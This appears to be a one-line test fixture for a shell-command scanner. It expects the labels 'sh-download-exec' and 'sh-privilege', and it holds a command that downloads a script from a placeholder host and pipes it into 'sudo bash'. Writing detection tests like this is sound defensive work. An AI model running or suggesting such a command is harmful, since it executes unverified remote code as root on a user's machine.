# expect: sh-download-exec,sh-privilege
wget -qO- http://x.example/setup | sudo bash -s -- --yes
